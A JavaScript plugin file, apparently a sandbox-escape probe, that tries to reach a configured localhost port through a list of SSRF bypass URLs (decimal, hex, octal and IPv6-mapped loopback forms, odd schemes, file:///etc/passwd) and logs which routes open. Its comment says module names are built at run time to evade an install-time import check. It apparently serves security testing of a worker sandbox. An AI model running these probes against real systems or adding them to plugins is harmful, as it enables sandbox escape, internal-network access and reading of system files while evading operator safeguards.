// Runs each escape route and records what it got in event.properties.escape_attempts:
// "refused: <error>" when the route failed, "OPEN: <what it returned>" when it worked. It also
// logs each result, so the app log shows what was tried. Module names are built at run time so
// the install-time import check does not refuse the app before the worker can be probed.
async function attempt(results, route, fn) {
  try {
    const value = await fn()
    results[route] = "OPEN: " + describe(value)
  } catch (e) {
    results[route] = "refused: " + describe(e && e.message !== undefined ? e.message : e)
  }
  console.log(route + " -> " + results[route])
}

function describe(value) {
  try {
    return String(value).slice(0, 200)
  } catch (e) {
    return typeof value
  }
}

const moduleName = (...parts) => parts.join("")

export async function processEvent(event, { config }) {
  const port = config.port
  const results = {}
  const targets = [
    "http://127.0.0.1:" + port + "/",
    "http://localhost:" + port + "/",
    "http://[::1]:" + port + "/",
    "http://[::ffff:127.0.0.1]:" + port + "/",
    "http://127.1:" + port + "/",
    "http://2130706433:" + port + "/",
    "http://0x7f000001:" + port + "/",
    "http://0177.0.0.1:" + port + "/",
    "https://127.0.0.1:" + port + "/",
    "http://user@127.0.0.1:" + port + "/",
    "ftp://127.0.0.1:" + port + "/",
    "ws://127.0.0.1:" + port + "/",
    "file:///etc/passwd",
    "data:text/plain,hello",
  ]
  for (const url of targets) {
    await attempt(results, url, async () => (await fetch(url)).status)
  }
  event.properties.escape_attempts = results
  return event
}
